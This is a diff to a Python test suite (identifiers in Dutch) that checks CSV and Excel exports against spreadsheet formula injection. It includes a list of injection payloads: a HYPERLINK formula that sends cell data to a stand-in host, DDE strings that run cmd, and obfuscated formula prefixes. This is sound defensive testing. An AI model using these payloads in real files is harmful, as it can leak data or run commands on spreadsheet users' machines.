@@ -137,5 +137,27 @@ def test_only_a_number_as_we_write_it_becomes_a_number(tekst: str, getal: float 
 def test_safe_text_never_starts_a_formula_and_loses_nothing(tekst: str):
     veilig = safe_text(tekst)
 
-    assert not veilig.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
+    assert not veilig.lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
     assert veilig.removeprefix("'") == tekst or veilig == tekst
+
+
+AANVALLEN = (
+    '=HYPERLINK("http://kwaad.example/?"&A1;"klik")',
+    "+1+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0",
+    "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\uff1d1+1",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("aanval", AANVALLEN)
+def test_a_name_that_is_an_attack_stays_text_in_every_column_and_header(
+    toelichting: Toelichting, aanval: str
+):
+    tabel = pl.DataFrame({aanval: [aanval], "Aantal": [-3], "Getal als tekst": ["-3"]})
+
+    csv_tekst = to_csv(tabel, toelichting).decode("utf-8-sig")
+    kop, rij = csv.reader(io.StringIO(csv_tekst, newline=""), delimiter=";")
+    blad = open_book(to_excel(tabel, toelichting))["Gegevens"]
+
+    assert kop[0] == rij[0] == f"'{aanval}"
+    assert rij[1:3] == ["-3", "-3"]
+    assert [cel.data_type for cel in blad[2]] == ["s", "n", "n"]
